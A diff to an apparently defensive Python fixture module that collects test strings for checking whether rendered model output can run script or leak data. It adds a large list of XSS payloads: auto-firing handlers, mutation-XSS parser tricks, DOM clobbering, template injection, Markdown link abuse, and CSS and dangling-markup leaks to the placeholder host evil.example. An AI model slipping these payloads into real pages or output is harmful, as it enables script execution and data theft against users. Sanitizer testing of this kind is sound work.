@@ -1,7 +1,11 @@
 """Texts by which a model may try to be more than text, by what a browser or a page could take them for.
 
-`ran()` is what a script of theirs would call, and evil.example where a request of theirs would go.
+Our own, by the classes that the well-known lists have, and one such list itself (`samples/blns`). In ours `ran()`
+is what a script of theirs would call, and evil.example where a request of theirs would go.
 """
+
+import json
+from pathlib import Path
 
 JS = "javascript:ran()"
 EVIL = "https://evil.example"
@@ -72,6 +76,95 @@ MUTATING = [
     "<textarea><!--</textarea><img src=x onerror=ran()>-->",
     "<xmp><p title='</xmp><img src=x onerror=ran()>'>",
     "&lt;img src=x onerror=ran()&gt; &#60;img src=x onerror=ran()&#62; &amp;lt;script&amp;gt;",
+]
+# What else the lists know, class by class: each is one of a kind.
+OTHER_KINDS = [
+    # Handlers that need nobody: focus, animation, toggling, media, scrolling, errors of style sheets.
+    "<input autofocus onfocus=ran()><keygen autofocus onfocus=ran()>",
+    "<details open ontoggle=ran()><summary onbeforetoggle=ran() popover>x",
+    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=ran() ontransitionend=ran()>",
+    f"<video poster={JS}><source onerror=ran()></video><audio src oncanplay=ran() onloadstart=ran() autoplay>",
+    "<p style=content-visibility:auto oncontentvisibilityautostatechange=ran()>",
+    "<marquee onstart=ran() onbounce=ran()>x</marquee>",
+    "<body onpageshow=ran() onhashchange=ran() onscroll=ran() background=javascript:ran()>",
+    "<select autofocus onfocusin=ran()><option>x",
+    "<object data=x:x onerror=ran()><embed src=x:x onload=ran()>",
+    # How a handler is written: no blank, a slash, a line, entities, backticks, no end, capitals.
+    "<img/src=x/onerror=ran()>",
+    "<img src=x onerror\n=\nran()>",
+    "<img src=x onerror=&#x72;an()>",
+    "<img src=x onerror=`ran()`>",
+    "<img src=`x` onerror=ran() a=`",
+    "<img src=x oNeRrOr='ran()'",
+    "<img src=x \x0bonerror=ran()>",
+    "<img src=x onerror=ran()\0>",
+    "<a\u2028onclick=ran()>x",
+    # Addresses in places other than href and src.
+    f"<form><button formaction={JS}>x</button><input type=image src={EVIL}/x formaction={JS}></form>",
+    f"<svg><a xlink:href={JS}><text y=9>x</a><use href=data:image/svg+xml,x#y /><image href={EVIL}/x /></svg>",
+    "<svg><animate attributeName=href values=javascript:ran() /><set attributeName=onload to=ran() /></svg>",
+    f"<math href={JS}><mi xlink:href={JS}>x</mi><maction actiontype=statusline#{EVIL}>x</maction></math>",
+    f"<iframe srcdoc='<img src=x onerror=ran()>'></iframe><object classid={JS}><param name=movie value={EVIL}>",
+    f"<link rel=prefetch href={EVIL}><link rel=dns-prefetch href=//evil.example><link rel=import href={EVIL}>",
+    f"<link rel=stylesheet href=data:,*{{x:y}}><link rel=modulepreload href={EVIL}>",
+    f"<img srcset='{EVIL}/x 1x'><picture><source srcset={EVIL}/x></picture><img lowsrc={EVIL} dynsrc={EVIL}>",
+    f"<table background={EVIL}><td background={EVIL}><input list=x src={EVIL}>",
+    f"<a href=x ping={EVIL} attributionsrc={EVIL}>x</a><area href={JS}><base target=_top href={EVIL}>",
+    f"<script type=speculationrules>{{'prefetch':[{{'urls':['{EVIL}']}}]}}</script><script type=importmap>",
+    "<meta http-equiv=Content-Security-Policy content=script-src\n*><meta http-equiv=set-cookie content=a=b>",
+    # An attribute that is left open takes what follows with it.
+    f"<img src='{EVIL}/?",
+    f'<a href="{EVIL}/?',
+    f"<form action={EVIL}><textarea name=x>",
+    f"<style>@import'{EVIL}/?",
+    # Styles.
+    "<p style='width:expression(ran());behavior:url(x.htc);-moz-binding:url(x.xml#y)'>",
+    f"<style>input[value^=a]{{background:url({EVIL}/a)}} @font-face{{font-family:x;src:url({EVIL}/x)}}</style>",
+    f"<p style='position:fixed;inset:0;z-index:9'><a href={EVIL}>x</a>",
+    "<div style='background:\\75rl(javascript:ran())'>",
+    # Other parsers than HTML's: comments with conditions, XML, PHP, encodings.
+    "<!--[if gte IE 4]><script>ran()</script><![endif]-->",
+    "<!--<img src='--><img src=x onerror=ran()//'>",
+    "<!><img src=x onerror=ran()><!-->",
+    "<? foo='><script>ran()</script>'>",
+    "<!ENTITY x '<img src=x onerror=ran()>'>&x;",
+    "<xml id=x><i><b>&lt;img src=x onerror=ran()&gt;</b></i></xml>",
+    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>ran()</x:script>",
+    "+ADw-script+AD4-ran()+ADw-/script+AD4-",
+    "\u00bcscript\u00beran()\u00bc/script\u00be",
+    "%3Cscript%3Eran()%3C/script%3E",
+    "\\u003cscript\\u003eran()\\x3c/script\\x3e",
+    "\uff1cscript\uff1eran()\uff1c/script\uff1e",
+    # What a template, or a framework, would fill in or obey.
+    "{{7*7}} {{constructor.constructor('ran()')()}} ${ran()} #{ran()} <%= ran() %> {% debug %} [[${ran()}]]",
+    "<p ng-app ng-csp x-data x-init=ran() v-on:click=ran() @click=ran() :href=x data-bind='x:ran()' is=x-own>",
+    "<p data-turbo-stream data-remote=true data-method=delete up-target=body data-action=click#x hx-on='ran()'>",
+    # Names that a document or a form would rather hear than its own.
+    "<a id=htmx><a id=htmx name=config href=x:y>",
+    "<form id=document><input name=forms><input name=body><img name=cookie><object name=getElementById></form>",
+    "<form id=composer><input id=attributes><input name=action><input name=submit><input name=parentNode></form>",
+    "<iframe name=self srcdoc='<a id=x>'></iframe><output form=composer><input form=composer name=question value=x>",
+    "<svg id=__proto__><b id=constructor><i id=toString name=valueOf>",
+    # Trees that another parser would build anew.
+    "<template shadowrootmode=open><slot></slot><img src=x onerror=ran()></template>",
+    "<form><form><table><form><p></form></table><style></form><img src=x onerror=ran()>",
+    "<math><mi><table><mi><mglyph><svg><mtext><textarea><path id='</textarea><img src=x onerror=ran()>'>",
+    "<svg><desc><table><svg><title></desc><img src=x onerror=ran()>",
+    "<svg></br><style><!--</style><a id='--><img src=x onerror=ran()>'>",
+    "<noembed><p title='</noembed><img src=x onerror=ran()>'><noframes></noembed></noframes>",
+    "<plaintext></plaintext><img src=x onerror=ran()><listing>&lt;img src=x onerror=ran()&gt;</listing>",
+    "<a><b><a></b><table><a><td><img src=x onerror=ran()></table>",
+    "<b>" * 20 + "<table>" * 5 + "<style><img src=x onerror=ran()></style>",
+    # Markdown's own marks around and inside of them.
+    "[x](javascript:ran%28%29 'x\" onclick=ran()')",
+    '![x" onerror=ran() y="](https://a.example/x)',
+    '[x](https://a.example/" onclick="ran\\(\\))',
+    "[a]: javascript:ran() (x)\n\n[a] [a][] ![a]",
+    '<javascript:ran()> <https://a.example/"onclick=ran()>',
+    "``<img src=x onerror=ran()>` <img src=x onerror=ran()>",
+    "~~~\n</code></pre><img src=x onerror=ran()>",
+    "<div markdown=1>\n\n**x** <img src=x onerror=ran()>\n\n</div>",
+    "***[x](<javascript:ran()>)***~~<img src=x onerror=ran()>~~",
 ]
 SCHEMES = [
     JS,
@@ -187,4 +280,9 @@ def every():
     latex = [
         shape.format(one) for one in LATEX for shape in ("${}$", "$$\n{}\n$$", "[{0} \\({0}\\)](https://a.example)")
     ]
-    return [*RAW, *MUTATING, *links, *places, *latex, *FRAMING]
+    return [*RAW, *MUTATING, *OTHER_KINDS, *links, *places, *latex, *FRAMING]
+
+
+def known():
+    """Return a collection that others keep and trust: what breaks programs, scripts and all."""
+    return json.loads((Path(__file__).parent / "samples/blns/blns.json").read_text())
